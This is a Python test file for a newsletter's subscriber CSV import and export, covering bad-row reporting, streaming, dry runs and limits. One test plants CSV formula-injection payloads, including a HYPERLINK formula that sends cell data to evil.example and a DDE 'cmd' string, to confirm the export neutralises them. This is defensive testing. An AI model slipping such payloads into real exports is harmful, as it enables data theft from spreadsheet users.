"""CSV import and export: every kind of bad row reported by number, good rows imported."""

from __future__ import annotations

import csv
import io
import re
import tracemalloc
from pathlib import Path

import pytest
from sqlalchemy import func, select

from newsletter.db import Database
from newsletter.errors import InvalidInputError, NotFoundError, UserError
from newsletter.limits import Limits
from subscribers import csvio, services, suppression, transitions
from subscribers.models import Consent, Subscriber, Subscription, SubscriptionState
from subscribers.models import SuppressionReason as R
from tests.unit.subscribers.factories import NoConfirm, seed, signup, web_evidence

BAD_CSV = """email,name,topics,timezone,locale
ann@example.org,Ann,Science;sport,Europe/London,en-GB
not-an-address,Nobody,,,
bob@example.org,Bob,,Mars/Base,en
ANN@example.org,Ann again,,,
spam@example.org,Spammy,,,
carol@example.org,Carol,Cooking,,
dave@example.org,Dave,,,xx-not-a-locale-tag
erin@example.org,too,many,fields,,here
old@example.org,Already here,,,
gone@example.org,Left us,,,
josé@example.org,José,,,

frank@example.org,,,,
ida@bücher.de,Ida,,,
"""


def _write(tmp_path: Path, text: str | bytes, name: str = "people.csv") -> Path:
    path = tmp_path / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def test_every_kind_of_bad_row_is_reported_by_row_number(
    any_database: Database, tmp_path: Path
) -> None:
    """Invalid, duplicate, suppressed, listed and malformed rows are reported; others go in."""
    seed(any_database)
    with any_database.session() as session:
        suppression.suppress(session, "spam@example.org", R.SPAM_REPORT)
        signup(session, "old@example.org")
        signup(session, "gone@example.org")
        gone = services.get_subscriber(session, "gone@example.org").subscriptions[0]
        transitions.transition(session, gone, SubscriptionState.UNSUBSCRIBED, web_evidence())
    path = _write(tmp_path, BAD_CSV)
    with any_database.session() as session:
        report = csvio.import_csv(
            session, path, list_slug="daily", confirmed=True, consent="Signed up at the fair"
        )
    assert [(p.row, p.reason.split(":")[0]) for p in report.problems] == [
        (3, "invalid address"),
        (4, "timezone"),
        (5, "duplicate"),
        (6, "suppressed"),
        (7, "topics"),
        (8, "locale"),
        (9, "columns"),
        (11, "already on the list (unsubscribed)"),
        (12, "invalid address"),
    ]
    assert "row 2" in report.problems[2].reason
    assert "non-ASCII characters before the @" in report.problems[-1].reason
    assert report.counts()["duplicate"] == 1
    assert (report.rows, report.imported, report.new_subscribers) == (13, 3, 3)
    assert report.confirmed_pending == 1
    with any_database.session() as session:
        ann = services.get_subscriber(session, "ann@example.org")
        assert (ann.name, ann.timezone, ann.locale) == ("Ann", "Europe/London", "en-GB")
        assert ann.subscriptions[0].state is SubscriptionState.CONFIRMED
        assert ann.subscriptions[0].topics == ["Science", "Sport"]
        consent = session.scalars(select(Consent).where(Consent.subscriber_id == ann.id)).one()
        assert (consent.source.value, consent.text) == ("import", "Signed up at the fair")
        assert services.find_subscriber(session, "bob@example.org") is None
        assert services.find_subscriber(session, "ida@xn--bcher-kva.de") is not None
        assert services.get_subscriber(session, "gone@example.org").subscriptions[0].state is (
            SubscriptionState.UNSUBSCRIBED
        )


def test_confirmed_import_confirms_pending_sign_ups(any_database: Database, tmp_path: Path) -> None:
    """A confirmed import turns a pending sign-up into a confirmed one and records the consent."""
    seed(any_database)
    with any_database.session() as session:
        signup(session, "old@example.org", topics=("Science",))
    path = _write(tmp_path, "email\nold@example.org\n")
    with any_database.session() as session:
        dry = csvio.import_csv(
            session, path, list_slug="daily", confirmed=True, consent="Paper form", dry_run=True
        )
    assert (dry.imported, dry.confirmed_pending, dry.problems) == (0, 1, [])
    with any_database.session() as session:
        assert services.get_subscriber(session, "old@example.org").subscriptions[0].state is (
            SubscriptionState.PENDING
        )
        report = csvio.import_csv(
            session, path, list_slug="daily", confirmed=True, consent="Paper form"
        )
    assert (report.imported, report.confirmed_pending, report.problems) == (0, 1, [])
    with any_database.session() as session:
        old = services.get_subscriber(session, "old@example.org")
        assert old.subscriptions[0].state is SubscriptionState.CONFIRMED
        assert old.subscriptions[0].confirmed_at is not None
        assert old.subscriptions[0].topics == ["Science"]
        last = session.scalars(
            select(Consent).where(Consent.subscriber_id == old.id).order_by(Consent.id.desc())
        ).first()
        assert last is not None
        assert (last.from_state, last.to_state, last.source.value, last.text) == (
            "pending",
            "confirmed",
            "import",
            "Paper form",
        )
    unconfirmed = _write(tmp_path, "email\nold@example.org\n", "again.csv")
    with any_database.session() as session:
        again = csvio.import_csv(session, unconfirmed, list_slug="daily", confirmer=NoConfirm())
    assert again.problems[0].reason == "already on the list (confirmed): left unchanged"


def test_pending_import_sends_confirmations(any_database: Database, tmp_path: Path) -> None:
    """Without --confirmed, imported rows are pending and each is asked to confirm."""
    seed(any_database)
    seed(any_database, "evening")
    with any_database.session() as session:
        signup(session, "ann@example.org", slug="evening")
    path = _write(tmp_path, "Email\nann@example.org\nbob@example.org\n")
    confirmer = NoConfirm()
    with any_database.session() as session:
        report = csvio.import_csv(session, path, list_slug="daily", confirmer=confirmer)
        assert confirmer.sent == []  # nobody is emailed before the import commits
    assert (report.imported, report.new_subscribers) == (2, 1)
    assert len(confirmer.sent) == 2
    with any_database.session() as session:
        states = session.scalars(
            select(Subscription.state).where(Subscription.id.in_(confirmer.sent))
        ).all()
        assert set(states) == {SubscriptionState.PENDING}


def test_failed_import_emails_nobody_and_a_rerun_emails_once(
    database: Database, tmp_path: Path
) -> None:
    """An import whose transaction fails sends no confirmation; the re-run sends one each."""
    seed(database)
    path = _write(tmp_path, "email\nann@example.org\nbob@example.org\n")
    confirmer = NoConfirm()

    def failing() -> None:
        with database.session() as session:
            csvio.import_csv(session, path, list_slug="daily", confirmer=confirmer)
            raise RuntimeError("a later step fails")

    with pytest.raises(RuntimeError):
        failing()
    assert confirmer.sent == []
    with database.session() as session:
        report = csvio.import_csv(session, path, list_slug="daily", confirmer=confirmer)
    assert report.imported == 2
    assert len(confirmer.sent) == 2


def test_dry_run_writes_nothing(database: Database, tmp_path: Path) -> None:
    """A dry run reports what would happen and leaves the database untouched."""
    seed(database)
    path = _write(tmp_path, "email\nann@example.org\nbad\n")
    with database.session() as session:
        report = csvio.import_csv(session, path, list_slug="daily", dry_run=True)
    assert (report.imported, len(report.problems)) == (1, 1)
    with database.session() as session:
        assert session.scalar(select(func.count()).select_from(Subscriber)) == 0


@pytest.mark.parametrize(
    ("content", "message"),
    [
        ("mail,name\na@example.org,A\n", "line 1: header"),
        ("email,email\na@example.org,b@example.org\n", "line 1: header"),
        ("email,phone\na@example.org,123\n", "line 1: header"),
        ("", "empty"),
        (b"email\nok@example.org\ncaf\xe9@example.org\n", "line 3: not UTF-8"),
        ('email,name\na@example.org,"unterminated\n', "malformed CSV"),
        (b"email\nok@example.org\nend@example.\xc3", "line 3: not UTF-8 text \\(the file ends"),
        ('"em"ail,name\na@example.org,A\n', "line 1: malformed CSV"),
    ],
)
def test_unusable_files_are_refused_whole(
    database: Database, tmp_path: Path, content: str | bytes, message: str
) -> None:
    """A wrong header, an empty file or bad encoding: one error naming file and line, no rows."""
    seed(database)
    path = _write(tmp_path, content)
    with pytest.raises(InvalidInputError, match=message) as caught, database.session() as session:
        csvio.import_csv(session, path, list_slug="daily", confirmed=True, consent="x")
    assert str(path) in str(caught.value)
    with database.session() as session:
        assert session.scalar(select(func.count()).select_from(Subscriber)) == 0


def test_import_preconditions(database: Database, tmp_path: Path) -> None:
    """--confirmed needs a consent text, pending needs a confirmer, the list must exist."""
    seed(database)
    path = _write(tmp_path, "email\na@example.org\n")
    with database.session() as session:
        with pytest.raises(InvalidInputError, match="--consent"):
            csvio.import_csv(session, path, list_slug="daily", confirmed=True)
        with pytest.raises(UserError, match="confirmer"):
            csvio.import_csv(session, path, list_slug="daily")
        with pytest.raises(NotFoundError):
            csvio.import_csv(session, path, list_slug="nope", confirmed=True, consent="x")
        with pytest.raises(InvalidInputError, match="cannot read"):
            csvio.import_csv(
                session, tmp_path / "missing.csv", list_slug="daily", confirmed=True, consent="x"
            )


def test_progress_reaches_the_size_of_the_file(database: Database, tmp_path: Path) -> None:
    """The progress callback counts bytes read, in order, ending at the file's size."""
    seed(database)
    rows = "".join(f"p{number}@example.org\n" for number in range(4500))
    path = _write(tmp_path, "email\n" + rows)
    calls: list[tuple[int, int]] = []
    with database.session() as session:
        csvio.import_csv(
            session,
            path,
            list_slug="daily",
            confirmed=True,
            consent="x",
            progress=lambda done, total: calls.append((done, total)),
        )
    size = path.stat().st_size
    assert calls[-1] == (size, size)
    assert len(calls) == 3  # one call per chunk of 2,000 rows
    assert [done for done, _ in calls] == sorted(done for done, _ in calls)


def _people(count: int, start: int = 0) -> str:
    return "".join(f"p{number}@example.org,P {number}\n" for number in range(start, count))


def test_a_repeat_in_a_later_chunk_names_the_first_row(
    any_database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Streaming in chunks, an address seen chunks earlier is still a duplicate of its row."""
    monkeypatch.setattr(csvio, "CHUNK", 3)
    seed(any_database)
    with any_database.session() as session:
        signup(session, "old@example.org")
    text = "email,name\n" + _people(5) + "old@example.org,Old\nP1@Example.org,Again\n"
    path = _write(tmp_path, text + _people(9, 5) + "p7@example.org,Twice\n")
    with any_database.session() as session:
        report = csvio.import_csv(session, path, list_slug="daily", confirmed=True, consent="x")
    assert [(p.row, p.reason) for p in report.problems] == [
        (8, "duplicate: same address as row 3"),
        (13, "duplicate: same address as row 11"),
    ]
    assert (report.rows, report.imported, report.confirmed_pending) == (12, 9, 1)
    with any_database.session() as session:
        assert services.get_subscriber(session, "p1@example.org").name == "P 1"


def test_a_dry_run_reports_what_a_real_run_would(
    database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The dry run writes in a savepoint it rolls back: same report, nothing stored."""
    monkeypatch.setattr(csvio, "CHUNK", 2)
    seed(database)
    path = _write(tmp_path, "email\na@example.org\nb@example.org\nbad\nA@example.org\n")
    with database.session() as session:
        dry = csvio.import_csv(session, path, list_slug="daily", dry_run=True)
    assert [(p.row, p.reason.split(":")[0]) for p in dry.problems] == [
        (4, "invalid address"),
        (5, "duplicate"),
    ]
    assert (dry.imported, dry.new_subscribers) == (2, 2)
    with database.session() as session:
        assert session.scalar(select(func.count()).select_from(Subscriber)) == 0
        real = csvio.import_csv(session, path, list_slug="daily", confirmed=True, consent="x")
    assert (real.imported, real.problems) == (dry.imported, dry.problems)


def test_only_the_first_problems_are_kept_but_all_are_counted(
    database: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Memory does not grow with bad rows either: details of the first few, counts of all."""
    monkeypatch.setattr(csvio, "PROBLEMS_KEPT", 2)
    seed(database)
    path = _write(tmp_path, "email\n" + "".join(f"bad{n}\n" for n in range(5)) + "ok@example.org\n")
    with database.session() as session:
        report = csvio.import_csv(session, path, list_slug="daily", confirmed=True, consent="x")
    assert [p.row for p in report.problems] == [2, 3]
    assert (report.refused, report.counts(), report.imported) == (5, {"invalid address": 5}, 1)


@pytest.mark.parametrize(
    ("limits", "message"),
    [
        (Limits(csv_rows=3), "line 5: more than 3 rows (NEWSLETTER_MAX_CSV_ROWS)"),
        (Limits(csv_bytes=40), "larger than 40 bytes (NEWSLETTER_MAX_CSV_BYTES)"),
    ],
)
def test_a_file_over_the_limits_is_refused_whole(
    database: Database,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    limits: Limits,
    message: str,
) -> None:
    """Rows or bytes past the limit: one error naming the setting, and nothing stays written."""
    monkeypatch.setattr(csvio, "CHUNK", 2)
    seed(database)
    path = _write(tmp_path, "email,name\n" + _people(4))
    with pytest.raises(InvalidInputError, match=re.escape(message)), database.session() as session:
        csvio.import_csv(
            session, path, list_slug="daily", confirmed=True, consent="x", limits=limits
        )
    with database.session() as session:
        assert session.scalar(select(func.count()).select_from(Subscriber)) == 0


def _peak_bytes(database: Database, path: Path) -> int:
    tracemalloc.start()
    try:
        with database.session() as session:
            report = csvio.import_csv(session, path, list_slug="daily", confirmed=True, consent="x")
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert not report.problems
    return peak


def test_memory_stays_flat_as_the_file_grows(database: Database, tmp_path: Path) -> None:
    """Five times the rows, about the same peak: the import holds a chunk, not the file.

    Before streaming, the import held every row (about 1.2 KB each): 10,000 rows peaked
    some 4 MB above 2,000 rows under tracemalloc. Now the difference is the 4 bytes a row keeps for
    duplicate look-ups.
    """
    seed(database)
    small = _write(tmp_path, "email,name\n" + _people(2000), "small.csv")
    large = _write(tmp_path, "email,name\n" + _people(10_000, 2000), "large.csv")
    small_peak = _peak_bytes(database, small)
    large_peak = _peak_bytes(database, large)
    assert large_peak < small_peak + 1_000_000, (small_peak, large_peak)


def test_export_round_trips_and_neutralises_formulas(database: Database, tmp_path: Path) -> None:
    """Export writes the import format, confirmed only by default; formulas get a quote."""
    seed(database)
    path = _write(
        tmp_path,
        "email,name,topics,timezone,locale\n"
        "b@example.org,=HYPERLINK(1),Sport;Science,Europe/Paris,fr\n"
        "a@example.org,Ann,,,\n",
    )
    with database.session() as session:
        csvio.import_csv(session, path, list_slug="daily", confirmed=True, consent="x")
        signup(session, "pending@example.org")
    buffer = io.StringIO()
    with database.session() as session:
        assert csvio.export_csv(session, "daily", buffer) == 2
    assert buffer.getvalue().splitlines() == [
        "email,name,topics,timezone,locale,cadence,weekly_day,digests,alerts,alert_topics",
        "a@example.org,Ann,,,,daily,,yes,no,",
        "b@example.org,'=HYPERLINK(1),Sport;Science,Europe/Paris,fr,daily,,yes,no,",
    ]
    everyone = io.StringIO()
    with database.session() as session:
        states = list(SubscriptionState)
        assert csvio.export_csv(session, "daily", everyone, states=states) == 3


def test_every_exported_cell_is_neutralised_and_reads_back(
    database: Database, tmp_path: Path
) -> None:
    """Addresses and topics that start like formulas get a quote too; control characters
    are dropped; the export imports back as it was (issue 17 B1)."""
    seed(database)
    formula = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'
    people = _write(
        tmp_path,
        "email\n=1+3@example.com\n+cmd|'/ccalc'!a0@example.com\n-2@example.com\n",
        "people.csv",
    )
    with database.session() as session:
        csvio.import_csv(session, people, list_slug="daily", confirmed=True, consent="x")
    with database.session() as session:
        subscriber = services.get_subscriber(session, "=1+3@example.com")
        subscriber.name = "Eve\x1b]0;owned\x07"  # stored before names were checked
        subscriber.subscriptions[0].topics = [formula, "@SUM(1)"]
    buffer = io.StringIO()
    with database.session() as session:
        assert csvio.export_csv(session, "daily", buffer) == 3
    rows = list(csv.reader(io.StringIO(buffer.getvalue())))
    for row in rows[1:]:
        for cell in row:
            assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), row
            assert "\x1b" not in cell
            assert "\x07" not in cell
    assert sorted(row[0] for row in rows[1:]) == [
        "'+cmd|'/ccalc'!a0@example.com",
        "'-2@example.com",
        "'=1+3@example.com",
    ]
    assert rows[3][1:3] == ["Eve]0;owned", "'" + formula + ";@SUM(1)"]
    # What was exported reads back as the same addresses.
    path = _write(tmp_path, buffer.getvalue(), "export.csv")
    seed(database, "other")
    with database.session() as session:
        report = csvio.import_csv(session, path, list_slug="other", confirmed=True, consent="x")
    # The two plain rows import; the third's topics are not the other list's, and its
    # address reads back without the guarding quote.
    assert report.imported == 2
    assert [p.email for p in report.problems] == ["=1+3@example.com"]
    with database.session() as session:
        assert services.get_subscriber(session, "-2@example.com").subscriptions


def test_import_on_sqlite_and_postgresql(any_database: Database, tmp_path: Path) -> None:
    """Bulk rows get database-clock timestamps that read back as aware UTC datetimes."""
    seed(any_database)
    path = _write(tmp_path, "email,topics\nann@example.org,Sport\nbob@example.org,\n")
    with any_database.session() as session:
        report = csvio.import_csv(session, path, list_slug="daily", confirmed=True, consent="x")
    assert report.imported == 2
    with any_database.session() as session:
        ann = services.get_subscriber(session, "ann@example.org")
        sub = ann.subscriptions[0]
        assert ann.created_at.tzinfo is not None
        assert sub.confirmed_at is not None
        assert sub.confirmed_at.utcoffset() is not None
        assert sub.topics == ["Sport"]
        assert session.scalar(select(func.count()).select_from(Consent)) == 2


def test_import_and_export_the_kinds_of_mail(any_database: Database, tmp_path: Path) -> None:
    """digests / alerts (yes or no, blank: digest only) and alert topics go in and come out."""
    seed(any_database)
    path = _write(
        tmp_path,
        "email,digests,alerts,alert_topics\n"
        "both@example.org,yes,yes,science;Sport\n"
        "alerts@example.org,no,Y,\n"
        "plain@example.org,,,\n"
        "neither@example.org,no,no,\n"
        "maybe@example.org,maybe,,\n"
        "garden@example.org,,yes,Gardening\n",
    )
    with any_database.session() as session:
        report = csvio.import_csv(session, path, list_slug="daily", confirmed=True, consent="x")
    assert report.imported == 3
    assert [(p.row, p.reason) for p in report.problems] == [
        (5, "digests: a reader needs the digest, alerts or both"),
        (6, "digests: 'maybe' is not yes or no"),
        (7, "alert_topics: 'Gardening' is not a topic of this publication"),
    ]
    buffer = io.StringIO()
    with any_database.session() as session:
        csvio.export_csv(session, "daily", buffer)
    assert buffer.getvalue().splitlines()[1:] == [
        "alerts@example.org,,,,,daily,,no,yes,",
        "both@example.org,,,,,daily,,yes,yes,Science;Sport",
        "plain@example.org,,,,,daily,,yes,no,",
    ]
